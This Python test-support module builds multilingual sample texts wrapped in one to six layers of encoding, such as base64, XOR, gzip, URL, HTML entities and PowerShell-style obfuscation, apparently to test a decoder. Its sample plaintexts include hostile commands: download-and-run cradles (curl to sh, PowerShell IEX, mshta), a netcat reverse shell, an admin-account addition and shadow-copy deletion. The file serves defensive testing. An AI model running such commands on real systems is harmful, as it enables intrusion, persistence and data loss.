"""Chains of encodings around texts of several languages, as scripts, mails and tickets have them.

``chains.py`` has bare encodings around ASCII. Here they come with separators, calls and surrounding words, and the
texts have accents and other scripts.
"""

from __future__ import annotations

import base64
import codecs
import gzip
import html
import quopri
import random
import string
import urllib.parse
import zlib

from tests.support.chains import WRAPPERS as BARE
from tests.support.chains import Encoder

_SIGNS = (
    ".- -... -.-. -.. . ..-. --. .... .. .--- -.- .-.. -- -. --- .--. --.- .-. ... - ..- ...- .-- -..- -.-- --.. "
    "----- .---- ..--- ...-- ....- ..... -.... --... ---.. ----."
)
MORSE = dict(zip("ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", _SIGNS.split(), strict=True))


def _units(data: bytes) -> list[int]:
    wide = data.decode().encode("utf-16-le")
    return [int.from_bytes(wide[place : place + 2], "little") for place in range(0, len(wide), 2)]


def _lines(text: str, width: int, between: str) -> bytes:
    return between.join(text[start : start + width] for start in range(0, len(text), width)).encode()


def _joined(text: str, between: str) -> bytes:
    size = max(6, len(text) // 5)
    return ("'" + between.join(text[start : start + size] for start in range(0, len(text), size)) + "'").encode()


def _command(data: bytes, rng: random.Random) -> bytes:
    blob = base64.b64encode(data.decode().encode("utf-16-le")).decode()
    option = rng.choice(("-enc", "-e", "-EncodedCommand", "/ec"))
    return (
        f"At 09:14 the EDR on PC-0{rng.randint(1, 9)} reported that WINWORD.EXE had started "
        f"powershell.exe -NoProfile -w hidden {option} {blob}\nand the user called the help desk at 09:20."
    ).encode()


def _xored(data: bytes, rng: random.Random) -> bytes:
    key = rng.choice((bytes([rng.randint(1, 255)]), bytes([rng.randint(1, 255)]), rng.randbytes(rng.randint(2, 4))))
    return bytes(value ^ key[place % len(key)] for place, value in enumerate(data))


def _morse(data: bytes) -> bytes:
    return " / ".join(" ".join(MORSE[char] for char in word) for word in data.decode().upper().split()).encode()


WRAPPERS: dict[str, Encoder] = {
    "quoted-printable": lambda b, _: quopri.encodestring(b, quotetabs=True),
    "quoted-printable, all": lambda b, _: "".join(f"={c:02X}" for c in b).encode(),
    "base64": lambda b, _: base64.b64encode(b),
    "base64, 64 wide": lambda b, _: _lines(base64.b64encode(b).decode(), 64, "\r\n"),
    "base64, 40 wide, indented": lambda b, _: _lines(base64.b64encode(b).decode(), 40, "\n    "),
    "base64 url, bare": lambda b, _: base64.urlsafe_b64encode(b).rstrip(b"="),
    "base32": lambda b, _: base64.b32encode(b),
    "base32, bare, lower case": lambda b, _: base64.b32encode(b).rstrip(b"=").lower(),
    "base58": BARE["base58"],
    "base85": lambda b, _: base64.b85encode(b),
    "hex": lambda b, _: b.hex().encode(),
    "hex, colons": lambda b, _: b.hex(":").encode(),
    "hex, dashes": lambda b, _: b.hex("-").upper().encode(),
    "hex, spaces, lines": lambda b, _: _lines(b.hex(" "), 48, "\n"),
    "hex, commas": lambda b, _: ",".join(f"0x{c:02X}" for c in b).encode(),
    "hex of UTF-16": lambda b, _: b.decode().encode("utf-16-le").hex().encode(),
    "gzip": lambda b, _: base64.b64encode(gzip.compress(b, mtime=0)),
    "zlib": lambda b, _: base64.b64encode(zlib.compress(b)),
    "deflate": lambda b, _: base64.b64encode(zlib.compress(b, wbits=-15)),
    "encoded command": _command,
    "xor, hex": lambda b, rng: _xored(b, rng).hex().encode(),
    "xor, base64": lambda b, rng: base64.b64encode(_xored(b, rng)),
    "rot13": lambda b, _: codecs.encode(b.decode(), "rot13").encode(),
    "rot47": lambda b, _: bytes(33 + (c - 33 + 47) % 94 if 33 <= c < 127 else c for c in b),
    "URL": lambda b, _: urllib.parse.quote(b).encode(),
    "URL, all": lambda b, _: "".join(f"%{c:02x}" for c in b).encode(),
    "URL, form": lambda b, _: ("data=" + urllib.parse.quote_plus(b)).encode(),
    "entities": lambda b, _: "".join(f"&#{ord(c)};" for c in b.decode()).encode(),
    "entities of bytes": lambda b, _: "".join(f"&#x{c:02X};" for c in b).encode(),
    "entities, some": lambda b, _: html.escape(b.decode()).encode("ascii", "xmlcharrefreplace"),
    "UTF-16": lambda b, _: base64.b64encode(b.decode().encode("utf-16-le")),
    "UTF-16, big-endian": lambda b, _: base64.b64encode(b"\xfe\xff" + b.decode().encode("utf-16-be")),
    "unicode escapes": lambda b, _: "".join(f"\\u{unit:04x}" for unit in _units(b)).encode(),
    "unicode escapes, braces": lambda b, _: "".join(f"\\u{{{ord(c):x}}}" for c in b.decode()).encode(),
    "unescape": lambda b, _: f'unescape("{"".join(f"%u{unit:04X}" for unit in _units(b))}")'.encode(),
    "fromCharCode": lambda b, _: f"String.fromCharCode({', '.join(map(str, _units(b)))})".encode(),
    "[char[]]": lambda b, _: f"-join [char[]]({','.join(map(str, _units(b)))})".encode(),
    "[char]": lambda b, _: "+".join(f"[char]{unit}" for unit in _units(b)).encode(),
    "bytes([…])": lambda b, _: f"bytes([{', '.join(map(str, b))}]).decode()".encode(),
    "decimal": lambda b, _: " ".join(map(str, b)).encode(),
    "reversed": lambda b, _: b.decode()[::-1].encode(),
    "concatenated": lambda b, _: _joined(base64.b64encode(b).decode(), "' + '"),
    "concatenated, lines": lambda b, _: b"$p = " + _joined(base64.b64encode(b).decode(), "' +\n '"),
    "morse": lambda b, _: _morse(b),
}
"""Encoders of the bytes of a UTF-8 text to those of another."""

ONCE = {"morse"}
"""Only innermost: it has no lower case."""
MAX_BASE58_BYTES = 2_500  # nobody writes longer ones
CHANGE_LETTERS = {"rot13", "rot47"}
ALPHABETS = CHANGE_LETTERS | {"reversed"}

PLAIN = (
    "whoami /priv & ipconfig /all",
    "Le rapport a été envoyé à l'équipe de sécurité hier soir.",
    "Пожалуйста, смените пароль до пятницы.",
    "请在星期五之前更改您的密码。",
    "powershell -w hidden -c \"IEX (iwr 'http://198.51.100.20/a.ps1')\"",
    "Die Schlüssel liegen unter der Fußmatte, bitte nicht weitersagen.",
    "El próximo envío saldrá mañana a las diez de la noche.",
    "curl -fsSL http://203.0.113.77/init.sh | sh",
    "net user support P@ssw0rd1 /add && net localgroup administrators support /add",
    "Please transfer the money to the new account before noon",
    "C:\\Users\\José\\AppData\\Roaming\\näve.exe",
    "パスワードを変更してください。",
    "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "ops channel is on port 8443 tonight",
    "flag{чужой_среди_своих}",
)
HELD_PLAIN = (
    "vssadmin delete shadows /all /quiet",
    "Hôtel réservé pour trois nuits, petit déjeuner compris.",
    "Сервер обновлений недоступен, попробуйте позже.",
    "服务器将于今晚十点重启。",
    "Start-Process mshta.exe 'http://192.0.2.90/r.hta'",
    "Grüße aus München, wir sehen uns übermorgen.",
    "A reunião foi adiada para a próxima terça-feira.",
    "nc 203.0.113.40 9001 -e /bin/bash",
    "INSERT INTO accounts (name, role) VALUES ('guest', 'owner');",
    "the package is in locker number seven at the station",
    "\\\\files\\Übergabe\\Verträge 2026.docx",
    "비밀번호를 변경해 주세요.",
    '{"kunde": "Müller", "betrag": 120, "währung": "EUR"}',
    "call me at nine tomorrow morning",
    "GET /naïve?q=café HTTP/1.1",
)
"""Kinds of text that were not used while the decoder was developed."""


def mixed_chain(
    rng: random.Random, plains: tuple[str, ...], *, limit_bytes: int = 20_000
) -> tuple[str, str, list[str]]:
    """A plain text, the same text in one to six layers, and the names of the layers, innermost first."""
    plain, layers = rng.choice(plains), rng.randint(1, 6)
    data, names = plain.encode(), list[str]()
    while len(names) < layers and len(data) < limit_bytes:
        name = rng.choice(list(WRAPPERS))
        if _fits(name, data, names):
            data = WRAPPERS[name](data, rng)
            names.append(name)
    return plain, data.decode(), names


def _fits(name: str, data: bytes, names: list[str]) -> bool:
    """Whether a layer can be put around a text, and changes it."""
    if name in ONCE:
        return not names and all(char in MORSE or char == " " for char in data.decode().upper())
    if name in ALPHABETS and (names and names[-1] in ALPHABETS):
        return False
    if name == "base58":
        return len(data) < MAX_BASE58_BYTES
    if name in CHANGE_LETTERS:
        return sum(data.count(letter) for letter in string.ascii_letters.encode()) > len(data) / 3
    return name != "entities, some" or html.escape(data.decode()).encode("ascii", "xmlcharrefreplace") != data
